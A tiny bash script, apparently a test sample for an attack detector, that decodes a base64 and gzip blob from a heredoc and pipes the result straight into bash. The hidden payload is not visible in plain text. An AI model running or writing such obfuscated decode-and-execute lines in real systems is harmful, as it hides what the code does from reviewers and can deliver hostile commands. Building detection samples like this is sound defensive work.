#!/bin/bash
# shrike-test-attack: encoded-exec: gzip+base64 blob unpacked and executed from a heredoc
base64 -d <<'B64' | gunzip | bash
H4sIAAAAAAACAytPTy1R0C30V9AvyS3Q18tWyCgpKbDS1zcyMNYz0DM0NNYzM9PPVlBTU0jOyM1PUdCugKsEikGZXADg4cHhRgAAAA==
B64
